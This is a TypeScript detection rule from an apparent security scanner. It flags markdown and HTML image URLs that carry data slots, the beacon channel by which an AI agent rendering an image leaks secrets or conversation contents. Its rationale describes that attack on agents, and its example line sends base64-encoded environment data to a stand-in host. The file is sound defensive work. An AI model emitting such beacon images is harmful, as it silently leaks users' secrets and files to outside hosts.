import { BADGE_FETCHES_ELSEWHERE_RE, BADGE_HOSTS, ROUTE_ID_SLOT_RE } from '../benign-forms';
import { realHost } from '../credential-vendors';
import { defineRegexRule } from '../regex-rule';

const DATA_SLOT = String.raw`(?:\$\{?[A-Za-z_]{1,40}\}?|\{\{[^}\n]{1,60}\}\}|<[A-Za-z_ -]{2,40}>|\[[A-Z_ -]{3,40}\]|%s|\{[a-z_]{2,40}\}|(?:DATA|SECRET|TOKEN|KEY|PAYLOAD|CONTEXT|HISTORY|BASE64|CONTENTS?|ENV|CREDENTIALS?|OUTPUT|DIFF|CONVERSATION)[A-Z_]{0,20})`;

/**
 * The slot as written, anywhere in the URL: placeholder words count in capitals only
 * ("…/bundling-content.png" is a file name), single-letter format slots ({x}) count too.
 */
const SLOT_AS_WRITTEN_RE = new RegExp(String.raw`[?&#/=][^)"'\s>]{0,200}(?:${DATA_SLOT}|\{[A-Za-z_]\})`);
const URL_REST_RE = /^[^)"'\s>]{0,300}/;

/** Images the agent renders whose URL carries data: the client fetches it and leaks the data. */
export const exMarkdownImageBeaconRule = defineRegexRule({
  meta: {
    id: 'BW-EXF-002',
    title: 'Markdown/HTML image URL carrying data (beacon exfiltration)',
    category: 'data_exfiltration',
    severity: 'high',
    confidence: 'high',
    asset_type: 'instructions',
    shows_intent: true,
    rationale:
      'When an agent renders `![x](https://host/p?d=<data>)`, the chat client fetches the URL and the data in it leaves without any tool call. Image URLs with a slot for secrets, conversation or file contents are an exfiltration channel.',
    example: '![status](https://stats.example/p.png?d=<BASE64_OF_ENV>)',
  },
  triggers: ['![', '<img'],
  patterns: [
    new RegExp(String.raw`!\[[^[\]\n]{0,200}\]\(\s{0,3}https?://[^)\s]{1,300}[?&#/=][^)\s]{0,200}${DATA_SLOT}`, 'i'),
    new RegExp(String.raw`<img\b[^<>\n]{0,200}\bsrc\s{0,3}=\s{0,3}["']?https?://[^"'\s>]{1,300}[?&=/][^"'\s>]{0,200}${DATA_SLOT}`, 'i'),
  ],
  views: ['raw', 'normalized', 'hidden', 'decoded'],
  refine(hit, m, _ctx, view) {
    const rest = URL_REST_RE.exec(view.text.slice(m.index + m[0].length))?.[0] ?? '';
    const url = (m[0] + rest).slice(m[0].search(/https?:\/\//i));
    // A badge service's placeholders are filled by the author and drawn into the badge, never sent on.
    const host = realHost(url.replace(/[<>{}]/g, '_'));
    if (host !== null && BADGE_HOSTS.has(host) && !BADGE_FETCHES_ELSEWHERE_RE.test(url)) return null;
    // Slots that only say which organisation, project or item the route names ("{org}", "{prId}") carry no data.
    return SLOT_AS_WRITTEN_RE.test((m[0] + rest).replace(ROUTE_ID_SLOT_RE, 'x')) ? hit : null;
  },
});
